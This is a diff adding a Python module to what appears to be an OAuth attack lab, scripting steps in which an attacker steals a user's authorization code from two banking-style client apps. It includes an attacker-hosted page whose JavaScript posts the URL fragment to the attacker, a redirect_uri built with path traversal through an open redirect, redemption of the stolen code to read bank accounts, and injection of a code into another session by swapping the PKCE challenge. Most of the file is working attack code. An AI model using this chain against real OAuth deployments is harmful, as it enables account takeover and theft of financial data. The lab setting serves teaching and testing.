@@ -1,0 +1,88 @@
+"""One door at Balance, one at Budget; a code comes through each, and one of them is worth something."""
+
+from typing import Any
+
+from flask import Response
+
+from labs.people import told_in
+from labs.stage import Stage, Stuck
+from labs.steps import step
+
+SCRIPT = """
+const form = document.createElement("form");
+form.method = "post";
+form.action = "/home";  // an address without the fragment
+for (const [name, value] of new URLSearchParams(location.hash.slice(1))) {
+  form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
+}
+document.body.append(form);
+if (location.hash) form.submit();
+"""
+
+
+def page(world: Any) -> Response:
+    """Return a page that sends the fragment of its own address home."""
+    answer = Response(f"<!doctype html><title>Nothing</title><body>Nothing to see.<script>{SCRIPT}</script>")
+    answer.headers["Content-Security-Policy"] = "default-src 'none'; script-src 'unsafe-inline'"
+    return answer
+
+
+PAGES = {"/door": page}
+
+
+def link_through(stage: Stage, client_id: str, **changes: str) -> str:
+    """Return a request whose return address begins with the app's, and leaves through its door."""
+    address = f"{stage.callback(client_id)}/../leave?to={stage.here.attacker}/door"
+    stage.kept["redirect_uri"] = address
+    return stage.link(client_id, address, response_mode="fragment", **changes)
+
+
+@step("attacker")
+def makes_a_link(stage: Stage) -> None:
+    """Make a link to Alice's bank in Balance's name, which comes back through Balance's door."""
+    stage.onward = link_through(stage, "balance")
+
+
+@step("Alice")
+def alice_follows_the_link(stage: Stage) -> None:
+    """Follow the link, sign in as alice, and allow. Look at the address that you end at."""
+    stage.alice.go(stage.onward).agree()
+
+
+@step("attacker")
+def spends_the_code(stage: Stage) -> None:
+    """Redeem the code that came, with the attacker's own verifier, and ask the bank."""
+    code = stage.collection.newest("code")
+    if not code:
+        return
+    form = {"redirect_uri": stage.kept["redirect_uri"], "code_verifier": stage.kept["verifier"]}
+    token = stage.attacker.redeem(code, client_id="balance", **form)
+    if token:
+        stage.attacker.bank("GET", "/accounts", token)
+
+
+@step("attacker")
+def makes_another_link(stage: Stage) -> None:
+    """Make the same link in Budget's name; its challenge is that of a flow which Mallory has begun at Budget."""
+    stage.mallory.holds_back = f"{stage.here.auth}/login"
+    stage.mallory.go(f"{stage.here.budget}/connect")
+    begun = told_in(stage.mallory.visited("/authorize"))
+    stage.kept["state"] = begun["state"]
+    stage.onward = link_through(stage, "budget", code_challenge=begun["code_challenge"])
+
+
+@step("Alice")
+def alice_follows_that_one(stage: Stage) -> None:
+    """Follow this link, too, and allow."""
+    stage.alice.go(stage.onward).agree()
+
+
+@step("attacker")
+def tries_the_code_of_budget(stage: Stage) -> None:
+    """Try this code at Bank ID, where the secret is missing; then put it into Mallory's session at Budget."""
+    code = stage.collection.newest("code")
+    if not code:
+        raise Stuck("no code of Budget's came to the attacker")
+    stage.attacker.redeem(code, client_id="budget", redirect_uri=stage.kept["redirect_uri"])
+    stage.mallory.holds_back = ""
+    stage.mallory.go(f"{stage.here.budget}/callback?code={code}&state={stage.kept['state']}&iss={stage.here.auth}")
